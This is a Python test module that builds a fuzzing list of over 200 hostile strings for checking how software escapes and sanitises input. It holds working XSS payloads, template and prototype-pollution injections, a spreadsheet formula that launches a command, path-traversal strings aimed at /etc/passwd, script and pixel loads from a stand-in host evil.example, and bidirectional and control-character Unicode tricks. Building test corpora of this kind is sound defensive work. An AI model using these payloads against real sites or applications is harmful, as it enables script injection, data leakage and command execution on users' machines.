"""More than 200 strings that try to run code, to break out of where they stand, or to shift offsets."""

from __future__ import annotations

_CALL = "window.__broken=1"
_MARKUP = [
    "<script>{c}</script>", "</script><script>{c}</script>", "</SCRIPT ><script>{c}</script>", "<!--<script>{c}</script>-->",
    "<!-- --!><script>{c}</script>", "--><script>{c}</script>", "<img src=x onerror={c}>", "<img src=x onerror='{c}'",
    "<image href=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<svg/onload={c}//",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{c}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/></svg>", "<svg><foreignObject><body onload={c}></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<svg><desc><![CDATA[</desc><script>{c}</script>]]></svg>",
    "<math><mtext></p><img src=x onerror={c}></math>", "<math href='javascript:{c}'>x</math>", "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<object data='javascript:{c}'></object>",
    "<embed src='javascript:{c}'>", "<a href='javascript:{c}'>x</a>", "<a href=' &#1; javascript:{c}'>x</a>",
    "<a href='jav&#x09;ascript:{c}'>x</a>", "<form action='javascript:{c}'><button>x</button></form>",
    "<button formaction='javascript:{c}'>x</button>", "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>", "<details open ontoggle={c}>", "<video src=x onerror={c}>", "<audio src=x onerror={c}>",
    "<video><source onerror={c}></video>", "<body onload={c}>", "<body onpageshow={c}>", "<marquee onstart={c}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href='data:text/html,<script>{c}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<base href='//evil.example/'>", "<style>*{{background:url(//evil.example)}}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<div style='background:url(//evil.example/x)'>", "<div onpointerover={c} style=position:fixed;inset:0>",
    "<template><script>{c}</script></template>", "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<title></title><script>{c}</script>",
    "<textarea></textarea><script>{c}</script>", "<xmp></xmp><img src=x onerror={c}>", "<plaintext><img src=x onerror={c}>",
    "<dialog open onclose={c}>", "<isindex action=javascript:{c}>", "<keygen autofocus onfocus={c}>", "<portal src=//evil.example>",
    "<img src=//evil.example/pixel.gif>", "<img srcset=//evil.example/pixel.gif>", "<picture><source srcset=//evil.example/p.gif></picture>",
    "<table background=//evil.example/x>", "<script src=//evil.example/x.js></script>", "<script type=module>{c}</script>",
    "<script>import('//evil.example')</script>", "<x id=app><x id=main><x id=strings>", "<a id=data-0>", "<form id=search name=children>",
    "\"><img src=x onerror={c}>", "'><img src=x onerror={c}>", "`><img src=x onerror={c}>", "\" onmouseover={c} x=\"", "' onmouseover={c} x='",
    "\" style=\"animation:x\" onanimationstart=\"{c}", "x onerror={c} y=", "]]><script>{c}</script>", "%3Cscript%3E{c}%3C/script%3E",
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript\\x3e{c}",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "<\u0000script>{c}</script>", "<scr\u0000ipt>{c}</script>", "＜script＞{c}＜/script＞", "<ſcript>{c}</ſcript>",
    "<script\u2028>{c}</script>", "<<script>{c}//<</script>", "<script/xss>{c}</script>", "<ScRiPt>{c}</ScRiPt>", "<script>{c}", "</style><script>{c}</script>",
    "</title><script>{c}</script>", "</template><script>{c}</script>", "</bdi><script>{c}</script>", "</p></div></main><script>{c}</script>",
]  # fmt: skip
_CODE = [
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java\nscript:{c}", "\u0001javascript:{c}", "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+", "vbscript:msgbox(1)", "blob:null/x", "file:///etc/passwd",
    "//evil.example/x", "https://evil.example/x\" onclick=\"{c}", "http://a@evil.example/'onclick='{c}", "#/run?q=<script>{c}</script>", "#/article/%3Cscript%3E",
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "{{% {c} %}}", "[[${{{c}}}]]", "{{{{=<% %>=}}}}<%{c}%>", "{{{{{c}}}}}", "{{n}}", "{{words}} {{outlet}}",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "then", "undefined", "null", "NaN", "true", "-1", "0", "1e999",
    "'+{c}+'", "\"+{c}+\"", "`+{c}+`", "';{c}//", "\";{c}//", "`;{c}//", "\\';{c}//", "\\", "\\\\", "\\u0022;{c}//", "*/{c}/*", "//", "/*", "\u2028{c}\u2029", "${{alert(1)}}",
    "alert`1`", "eval('{c}')", "setTimeout('{c}')", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=1\n+1",
    "outlet:\"", "\"quoted\" \"", "kind:verbatim score>0", "a:b:c", ":", "%", "%zz", "%E0%A4%A", "?q=x&min=1", "../../../etc/passwd", "C:\\con", "a/b/c", "#", "&amp;", "&nbsp;", "&", "+", " ",
]  # fmt: skip
_SIGNS = [
    "\u202egnp.txt", "\u202dleft\u202c", "\u2066isolate\u2069", "\u2067rtl", "\u2068first\u2069", "\u200eLRM\u200f", "\u061cALM", "שלום עולם", "مرحبا بالعالم",
    "abc שלום 123 مرحبا", "😀", "😀😀😀😀", "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag", "🇮🇩🇯🇵", "👍🏽", "☺️☺︎", "✈︎✈️", "葛󠄀城", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𐐷𐐷𐐷", "𠜎𠜱𠝹", "e\u0301a\u0300", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a̴̵̞lgo",
    "\ufeffbom", "zero\u200bwidth", "non\u200cjoin\u200djoin", "soft\u00adhyphen", "no\u00a0break", "line\u2028sep\u2029par", "\u0000nul", "\u0007bell", "\u001b[31mred\u001b[0m", "\u0008back",
    "\u007fdel", "\u0085nel", "\u009bcsi", "\r\nwindows", "\rmac", "tab\tstop", "\ufffc\ufffd", "\ufff9annotation\ufffb", "\U000e0001tag", "\U0010ffffend", "İıſK", "ﬁﬂ ligature", "ｆｕｌｌ　ｗｉｄｔｈ", "กำแพง", "日本語の文",
    "क्षि", "ཨོཾ", "𓀀𓂀", "🙂\u202e🙂\u202c🙂",
]  # fmt: skip

ATTACKS: list[str] = [text.format(c=_CALL) for text in (*_MARKUP, *_CODE)] + _SIGNS
